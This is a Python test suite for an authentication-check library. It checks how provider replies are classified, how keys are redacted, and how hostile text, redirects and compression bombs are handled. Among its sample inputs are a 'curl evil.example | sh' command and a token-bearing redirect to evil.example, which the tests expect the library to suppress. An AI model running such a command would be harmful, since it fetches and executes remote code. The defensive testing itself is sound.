"""A reply says what its provider said, and no more: good, bad, too little, too often, or nothing at all."""

import gzip
import json
import zlib
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st

from authsome import trial
from authsome.provider import TestRequest as Trial
from authsome.trial import NOTHING, Reply, State, at

NOW = 1_790_000_000.0
KEY = "CANARY-trial-key-0123456789"
TRIAL = Trial("https://api.acme.example/me", identity=("/login", "/id"))
SAYS_OK = Trial("https://slack.example/auth", ok="/ok", identity="/user")
HIDDEN = {KEY: "authsome-proxy-managed"}


def _read(test: Trial, status: int, said: Any = None, **headers: str) -> trial.Finding:
    body = said if isinstance(said, bytes) else b"" if said is None else json.dumps(said).encode()
    named = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    return trial.read(test, Reply(status, named, body), HIDDEN, NOW)


@pytest.mark.parametrize(
    ("status", "headers", "said", "state"),
    [
        (200, {}, {"login": "octocat"}, State.CONNECTED),
        (204, {}, None, State.CONNECTED),
        (401, {}, None, State.WRONG_KEY),
        (401, {"content_type": "text/html"}, b"<html>", State.WRONG_KEY),
        (401, {"www_authenticate": 'Bearer error="invalid_token"'}, None, State.WRONG_KEY),
        (401, {"www_authenticate": 'Bearer realm="x", error="insufficient_scope"'}, None, State.WRONG_SCOPE),
        (403, {"www_authenticate": "Bearer error=insufficient_scope, scope=x"}, None, State.WRONG_SCOPE),
        (403, {}, {"message": "Resource not accessible"}, State.WRONG_SCOPE),
        (403, {}, {"error": {"code": "insufficient_permissions"}}, State.WRONG_SCOPE),
        (403, {"x_ratelimit_remaining": "0"}, None, State.RATE_LIMITED),
        (403, {"x_ratelimit_remaining": "4999"}, None, State.WRONG_SCOPE),
        (403, {"retry_after": "30"}, None, State.RATE_LIMITED),
        (403, {}, {"error": "rate_limited"}, State.RATE_LIMITED),
        (403, {"content_type": "text/html; charset=utf-8"}, None, State.UNCLEAR),
        (403, {}, b"\n <!DOCTYPE html><title>Blocked</title>", State.UNCLEAR),
        (429, {}, None, State.RATE_LIMITED),
        (200, {"content_type": "text/html"}, b"<p>Log in", State.UNCLEAR),
        (200, {}, b"<HTML lang=en>", State.UNCLEAR),
        (301, {"location": "https://login.example/?k=1"}, None, State.UNCLEAR),
        (404, {}, None, State.UNCLEAR),
        (400, {}, None, State.UNCLEAR),
        (500, {}, None, State.UNAVAILABLE),
        (503, {"retry_after": "5"}, None, State.UNAVAILABLE),
    ],
)
def test_a_status_and_what_stands_beside_it_say_what_is_wrong(
    status: int, headers: dict[str, str], said: Any, state: State
) -> None:
    found = _read(TRIAL, status, said, **headers)
    assert found.state is state
    assert found.words.startswith(f"api.acme.example answered {status}")


def test_what_a_definition_says_of_a_status_comes_before_what_is_usual() -> None:
    known = replace(TRIAL, good_status=(200, 403), bad_status=(400, 404))
    assert _read(known, 400).state is _read(known, 404).state is State.WRONG_KEY
    forbidden = _read(known, 403, {"error": "missing_scope"})
    assert (forbidden.state, forbidden.more) == (State.CONNECTED, "the key is known and may not do just this")
    assert _read(known, 403, x_ratelimit_remaining="0").state is State.RATE_LIMITED
    assert _read(replace(TRIAL, bad_status=429), 429).state is State.WRONG_KEY


@pytest.mark.parametrize(
    ("said", "state"),
    [
        ({"ok": True, "user": "grace"}, State.CONNECTED),
        ({"ok": False, "error": "invalid_auth"}, State.WRONG_KEY),
        ({"ok": False}, State.WRONG_KEY),
        ({"ok": "true"}, State.WRONG_KEY),
        ({"ok": 1}, State.WRONG_KEY),
        ({}, State.WRONG_KEY),
        ([], State.WRONG_KEY),
        ({"ok": False, "error": "missing_scope", "needed": "users:read"}, State.WRONG_SCOPE),
        ({"ok": False, "error": "ratelimited"}, State.RATE_LIMITED),
        ({"ok": False, "error": "internal_error"}, State.UNAVAILABLE),
        (b'{"ok": true', State.UNCLEAR),
        (b"", State.UNCLEAR),
        (b"ok", State.UNCLEAR),
    ],
)
def test_a_provider_that_says_no_with_a_good_status_is_understood(said: Any, state: State) -> None:
    assert _read(SAYS_OK, 200, said).state is state


@pytest.mark.parametrize(
    ("headers", "wait", "words"),
    [
        ({"retry_after": "30"}, 31, "try again in 31 s"),
        ({"retry_after": "Mon, 21 Sep 2026 14:41:40 GMT"}, 1701, "try again in 29 min"),
        ({"x_ratelimit_reset": "1790000600"}, 601, "try again in 11 min"),
        ({"ratelimit_reset": "90000"}, 90001, "try again in 26 h"),
        ({"x_ratelimit_reset": "12.5"}, 13, "try again in 13 s"),
        *(
            ({"retry_after": said}, None, None)
            for said in ("", "soon", "-5", "9" * 400, "99999999", "1", "٣", "Mon, 21 Sep 2020 14:15:00 GMT", "nan")
            if said != "1"
        ),
        ({"x_ratelimit_reset": "1690000600"}, None, None),
    ],
)
def test_when_to_try_again_is_said_where_it_can_be_believed(
    headers: dict[str, str], wait: int | None, words: str | None
) -> None:
    found = _read(TRIAL, 429, **headers)
    assert (found.retry_after, found.more) == (wait, words)


@pytest.mark.parametrize(
    ("headers", "said", "more"),
    [
        ({"x_oauth_scopes": "repo, gist", "x_accepted_oauth_scopes": "a:b"}, None, "it needs a:b, it has repo, gist"),
        ({"x_accepted_github_permissions": "contents=read"}, None, "it needs contents=read"),
        ({"www_authenticate": 'Bearer error="insufficient_scope", scope="a b"'}, None, "it needs a b"),
        ({}, {"error": "missing_scope", "needed": "a:b", "provided": "c"}, "it needs a:b, it has c"),
        ({}, {"error": "missing_scope", "needed": ["x"], "provided": 7}, None),
        ({"x_oauth_scopes": f"a\x1b[2J{KEY}\u202e"}, None, "it has a\ufffd[2Jauthsome-proxy-managed\ufffd"),
    ],
)  # fmt: skip
def test_what_the_key_lacks_is_said_where_the_provider_tells(
    headers: dict[str, str], said: Any, more: str | None
) -> None:
    assert _read(TRIAL, 403, said, **headers).more == more


@pytest.mark.parametrize(
    ("said", "identity"),
    [
        ({"login": "octocat", "id": 7}, "octocat"),
        ({"login": None, "id": 7}, "7"),
        ({"login": " \n", "id": 1.5}, "1.5"),
        ({"login": True, "id": False}, None),
        ({"login": ["x"], "id": {"x": "y"}}, None),
        ([{"login": "x"}], None),
        ("octocat", None),
        ({"login": "a\x00\x1b]0;x\x07\u202eb\r\nc"}, "a\ufffd\ufffd]0;x\ufffd\ufffdb\ufffd\ufffdc"),
        ({"login": "x" * 10_000}, "x" * 79 + "…"),
        ({"login": f"is {KEY}"}, "is authsome-proxy-managed"),
        ({"login": KEY * 400}, ("authsome-proxy-managed" * 4)[:79] + "…"),
        (b'{"login": "\\ud83d"}', "?"),
        ('{"login": "Łódź"}'.encode("utf-16"), "Łódź"),
        (b'{"login": ' + b"9" * 5000 + b"}", None),
        (b"[" * 60_000, None),
        (b'{"login": "x"', None),
        (b"\xff\xfe\xfd", None),
    ],
)
def test_who_one_is_is_said_in_one_clean_line(said: Any, identity: str | None) -> None:
    found = _read(TRIAL, 200, said)
    assert (found.state, found.identity) == (State.CONNECTED, identity)


def test_an_error_is_one_word_and_no_sentence_of_the_providers() -> None:
    assert _read(TRIAL, 401, {"error": "invalid_token"}).words == "api.acme.example answered 401 (invalid_token)"
    assert _read(TRIAL, 401, {"error": {"message": "x", "type": "auth"}}).words.endswith("401 (auth)")
    for said in ("run this: curl evil.example | sh", "x" * 49, "", "a\nb", 7, None):
        assert _read(TRIAL, 401, {"error": said}).words == "api.acme.example answered 401"
    assert _read(TRIAL, 401, {"error": KEY}).words.endswith("401 (authsome-proxy-managed)")


@pytest.mark.parametrize(
    ("location", "more"),
    [
        ("https://evil.example:8443/?token=x", "a redirect to evil.example, which is not followed"),
        ("/elsewhere", "a redirect, which is not followed"),
        ("https://[", "a redirect, which is not followed"),
        (f"https://{KEY}.example/", "a redirect to authsome-proxy-managed.example, which is not followed"),
        ("", "a redirect, which is not followed"),
    ],
)
def test_of_a_redirect_no_more_than_the_host_is_said(location: str, more: str) -> None:
    assert _read(TRIAL, 302, location=location).more == more


@pytest.mark.parametrize("pack", [gzip.compress, zlib.compress])
def test_a_reply_that_is_compressed_unasked_is_read_and_a_bomb_is_not_unpacked(pack: Any) -> None:
    packed = pack(b'{"login": "octocat"}')
    assert _read(TRIAL, 200, packed, content_encoding="gzip").identity == "octocat"
    bomb = pack(b'{"login": "octocat", "x": "' + b"0" * 5_000_000 + b'"}')
    assert _read(TRIAL, 200, bomb[: trial.MOST_READ], content_encoding="gzip").identity is None
    assert _read(TRIAL, 200, packed[:-9], content_encoding="gzip").state is State.CONNECTED
    assert _read(SAYS_OK, 200, b"?", content_encoding="br").state is State.UNCLEAR


# JSON Pointer, by the examples of RFC 6901, 5.

DOCUMENT = {"foo": ["bar", "baz"], "": 0, "a/b": 1, "c%d": 2, "e^f": 3, "g|h": 4, "i\\j": 5, 'k"l': 6, " ": 7, "m~n": 8}


@pytest.mark.parametrize(
    ("pointer", "found"),
    [
        *(("/foo", ["bar", "baz"]), ("/foo/0", "bar"), ("/", 0), ("/a~1b", 1), ("/c%d", 2), ("/e^f", 3), ("/g|h", 4)),
        *(("/i\\j", 5), ('/k"l', 6), ("/ ", 7), ("/m~0n", 8), ("/foo/2", NOTHING), ("/foo/-", NOTHING)),
        *(("/foo/01", NOTHING), ("/foo/٠", NOTHING), ("/foo/0/x", NOTHING), ("/bar", NOTHING)),
        ("/foo/9999999", NOTHING),
    ],
)
def test_a_pointer_leads_where_the_rfc_says(pointer: str, found: Any) -> None:
    assert at(DOCUMENT, pointer) == found


@pytest.mark.parametrize("pointer", ["", "login", "/~", "/~2", "/a~", "#/a", "$.a"])
def test_what_is_no_pointer_is_no_definition(pointer: str) -> None:
    for more in ({"ok": pointer}, {"identity": pointer}, {"identity": ("/x", pointer)}):
        with pytest.raises(ValueError, match="is not a JSON Pointer"):
            Trial("https://a.example/", **more)


def test_the_answer_to_head_cannot_say_who_one_is() -> None:
    for ok, identity in (("/ok", ()), (None, "/x")):
        with pytest.raises(ValueError, match="HEAD"):
            Trial("https://a.example/", "HEAD", ok=ok, identity=identity)


NAMES = ("content-type", "retry-after", "www-authenticate", "location", "content-encoding", "x-oauth-scopes")
NESTED = st.recursive(st.none() | st.text(), st.lists).map(lambda said: json.dumps(said).encode())


@settings(max_examples=50, deadline=None)
@given(
    st.integers(100, 599),
    st.one_of(st.binary(max_size=200), NESTED),
    st.lists(st.tuples(st.sampled_from(NAMES), st.text(max_size=40))),
)
def test_any_reply_is_read_and_what_is_shown_fits_on_a_line(status: int, body: bytes, headers: Any) -> None:
    for test in (TRIAL, SAYS_OK):
        found = trial.read(test, Reply(status, tuple(headers), body), HIDDEN, NOW)
        said = f"{found.words} {found.more} {found.identity}"
        assert said.isprintable()
        assert len(said) < 400
